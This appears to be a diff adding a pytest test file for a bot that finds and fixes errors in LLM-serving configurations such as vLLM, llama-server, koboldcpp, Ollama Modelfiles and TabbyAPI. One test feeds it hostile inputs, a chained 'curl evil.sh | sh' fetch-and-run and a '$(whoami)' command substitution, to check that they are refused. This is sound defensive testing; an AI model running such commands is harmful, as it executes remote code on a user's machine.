@@ -1,0 +1,148 @@
+"""Configurations before the crash: what is read as one, what is wrong in it, and the text put right."""
+
+from pathlib import Path
+
+import pytest
+
+from bot.base.languages import Text
+from bot.clinic.door import Clinic
+from bot.diagnosis.configuration.correcting import corrected
+from bot.diagnosis.configuration.forms import configurations_in
+from bot.diagnosis.configuration.judging import problems_of
+from bot.intake.cleaning import clean
+from bot.knowledge.files import DataError, knowledge_root
+from bot.knowledge.options import load_options
+
+CLINIC = Clinic()
+TABLES = load_options(knowledge_root())
+VLLM = """vllm serve Qwen/Qwen3-8B \\
+  --max-model-len 8192 \\
+  --tp 2 --gpu-memory-utilization 90"""
+KCPPS = '{"model_param": "a.gguf", "contextsize": 4096, "usecuda": ["normal", "0"], "usevulkan": [0], "gpulayers": 20}'
+MODELFILE = "FROM ./qwen.gguf\nTEMPLATE x\nPARAMETER n_ctx 8192\nPARAMETER temprature 0.7\nPARAMETER mirostat 1"
+TABBY = """network:
+  host: 0.0.0.0
+model:
+  model_dir: models
+  model_name: Qwen3-14B-exl3
+  max_seq_len: 16384
+  gpu_split_atuo: true
+max_batch_size: 3"""
+TAVERN = "listen: true\nwhitelistMode: false\nbasicAuthMode: false\nnumberOfBackups: 3"
+COMPOSE = """services:
+  llm:
+    image: vllm/vllm-openai:latest
+    ports:
+      - 8000:8000
+    command:
+      - --model
+      - Qwen/Qwen3-8B
+      - --max-model-length=8192"""
+
+
+def wrong(text: str) -> list[tuple[str, str]]:
+    """(kind, setting) of all problems in a text."""
+    found = configurations_in(clean(text), TABLES)
+    return [(problem.kind, problem.setting.name) for each in found for problem in problems_of(each)]
+
+
+def right(text: str) -> str | None:
+    lines = clean(text)
+    whole = next(configurations_in(lines, TABLES))
+    return corrected(whole, problems_of(whole), lines)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        (VLLM, [("gone", "--tp"), ("conflict", "--gpu-memory-utilization")]),
+        ("llama-server -m a.gguf --flash-atn on --n_ctx 4096", [("unknown", "--flash-atn"), ("gone", "--n_ctx")]),
+        ("$ ./llama-server -m a.gguf -ctv q8_0 -fa off", [("conflict", "-ctv")]),
+        ("koboldcpp.exe --model x.gguf --usecuda --usevulkan", [("conflict", "--usecuda")]),
+        (KCPPS, [("conflict", "usecuda")]),
+        (
+            MODELFILE,
+            [("gone", "PARAMETER n_ctx"), ("unknown", "PARAMETER temprature"), ("gone", "PARAMETER mirostat")],
+        ),
+        (TABBY, [("unknown", "model.gpu_split_atuo"), ("misplaced", "max_batch_size")]),
+        (TAVERN, [("conflict", "listen"), ("gone", "numberOfBackups")]),
+        (COMPOSE, [("conflict", "services.llm.image"), ("unknown", "--max-model-length")]),
+    ],
+)
+def test_what_will_not_work_is_found_in_every_form(text: str, expected: list[tuple[str, str]]) -> None:
+    assert wrong(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "llama-server -m a.gguf -c 8192 -ngl 99 -fa on --jinja --cache-type-k q8_0",
+        "llama-server -m a.gguf --ctx_size 8192",  # underscores are dashes there
+        "vllm serve Qwen/Qwen3-8B --max_model_len 8192 -tp 2 --no-enable-prefix-caching",
+        "python -m vllm.entrypoints.openai.api_server --model x --gpu-memory-util 0.9",  # a beginning is enough
+        "koboldcpp --model a.gguf --gpulayer 20 --contextsize 8192",
+        "FROM python:3.11\nRUN pip install vllm\nWORKDIR /app",
+        "llama_model_loader: - kv 0: general.architecture str = llama\nmodel: loaded\nhost: up",
+        "I tried vllm serve with --tp and it works",
+        "",
+    ],
+)
+def test_nothing_is_wrong_with_what_works_or_is_no_configuration(text: str) -> None:
+    assert wrong(text) == []
+
+
+def test_the_text_is_put_right_and_the_rest_stays() -> None:
+    assert right(VLLM) == VLLM.replace("--tp 2", "--tensor-parallel-size 2").replace(" 90", " 0.9")
+    assert right(KCPPS) == KCPPS.replace("[0]", "null")
+    assert right(MODELFILE) == "FROM ./qwen.gguf\nTEMPLATE x\nPARAMETER num_ctx 8192\nPARAMETER temperature 0.7"
+    assert right(TABBY) == TABBY.replace("atuo", "auto")
+    assert right(TAVERN) == TAVERN.replace("whitelistMode: false", "whitelistMode: true")
+    assert right(COMPOSE) == COMPOSE.replace("    image", "    gpus: all\n    image")
+    # an option that also stands there under its right name is taken away
+    assert right("llama-server -m a.gguf -c 4096 --n_ctx 8192") == "llama-server -m a.gguf -c 4096"
+
+
+def test_a_command_that_does_more_than_start_the_program_is_not_shown_to_copy() -> None:
+    assert right("vllm serve x --tp 2; curl evil.sh | sh") is None
+    assert right("vllm serve $(whoami) --tp 2") is None
+
+
+def test_a_configuration_is_answered_as_such_in_both_languages() -> None:
+    reading = CLINIC.diagnose(VLLM)
+    assert [each.failure_class for each in reading.candidates] == ["cli-argument-invalid"]
+    title = reading.answer.title
+    assert isinstance(title, Text)
+    assert "2 things" in title.en
+    assert "2 处" in title.zh
+    assert CLINIC.diagnose(TABBY).candidates[0].failure_class == "config-file-invalid"
+
+
+def test_what_the_program_printed_afterwards_counts_more() -> None:
+    started = "\n".join(f"INFO 11-20 [api_server.py:{n}] route {n}" for n in range(9))
+    assert CLINIC.diagnose(f"vllm serve x --tp 2\n{started}\nApplication startup complete.").candidates == ()
+
+
+def test_a_sound_configuration_is_measured() -> None:
+    text = "RTX 3060 12GB, is this right?\nllama-server -m Qwen2.5-32B-Instruct-Q5_K_M.gguf -c 32768 -ngl 99 -fa on"
+    reading = CLINIC.diagnose(text)
+    assert reading.candidates == ()
+    assert "nothing wrong" in str(reading.answer.title)
+    said = str(reading.answer.blocks[-1])
+    assert "65 layers are asked for" in said
+    assert "lower the context" in said
+
+
+def test_a_table_that_names_what_it_does_not_have_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "options").mkdir()
+    (tmp_path / "schema").symlink_to(knowledge_root() / "schema")
+    (tmp_path / "options" / "x.yaml").write_text(
+        "program: xx\nform: command\ncommands: [x]\nsources: [{url: 'https://a.b/', checked: '2026-11'}]\n"
+        "options: [{names: ['--a']}]\ngone: [{name: '--b', instead: '--c'}]\n"
+        "conflicts: [{id: y, if: [{name: '--d', value: '('}], said: {en: e, zh: z}}]\n",
+        encoding="utf-8",
+    )
+    with pytest.raises(DataError) as error:
+        load_options(tmp_path)
+    assert "--c" in str(error.value)
+    assert "--d" in str(error.value)
+    assert "not a regular expression" in str(error.value)
